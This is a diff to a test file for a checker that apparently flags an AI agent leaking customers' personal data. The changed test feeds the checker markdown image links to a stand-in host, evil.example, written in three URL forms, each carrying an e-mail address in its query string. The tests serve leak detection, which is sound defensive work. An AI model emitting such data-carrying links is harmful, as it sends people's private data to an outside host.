@@ -77,8 +77,9 @@ def test_data_that_no_person_owns_is_no_leak() -> None:
 
 
 def test_link_that_carries_data_away_is_a_leak_even_of_the_customers_own() -> None:
-    words = says("![x](https://evil.example/?q=ann%40example.com)")
-    assert found(looks(ANN), words) == ["writes a link that carries an e-mail address"]
+    for address in ("https://evil.example", "//evil.example", r"https:\\evil.example"):
+        words = says(f"![x]({address}/?q=ann%40example.com)")
+        assert found(looks(ANN), words) == ["writes a link that carries an e-mail address"]
 
 
 def test_link_that_a_tool_gave_is_none() -> None:
@@ -93,12 +94,17 @@ def test_a_leak_is_named_once_and_without_its_value() -> None:
     assert TOKEN not in leaks[0]
 
 
-def test_failed_calls_and_deep_results_tell_nothing() -> None:
-    deep: Any = "bob@example.org"
-    for _ in range(60):
-        deep = [deep]
+def test_failed_calls_tell_nothing() -> None:
     failed = Call("get_user", {"user_id": "bob_2"}, 1, None, error="no such user")
-    assert found(looks(ANN), failed, looks(BOB, {"user_id": "bob_2", "x": deep}), says("Hi")) == []
+    assert found(looks(ANN), failed, says("Hi")) == []
+
+
+def test_what_stands_deep_in_a_result_is_no_secret_to_the_check() -> None:
+    deep: Any = "bob@example.org"
+    for _ in range(2_000):
+        deep = [deep]
+    events = looks(ANN), looks(BOB, {"user_id": "bob_2", "x": deep}), says("bob@example.org")
+    assert found(*events) == ["tells an e-mail address of bob_2"]
 
 
 def test_a_flood_of_leaks_is_told_by_its_beginning() -> None:
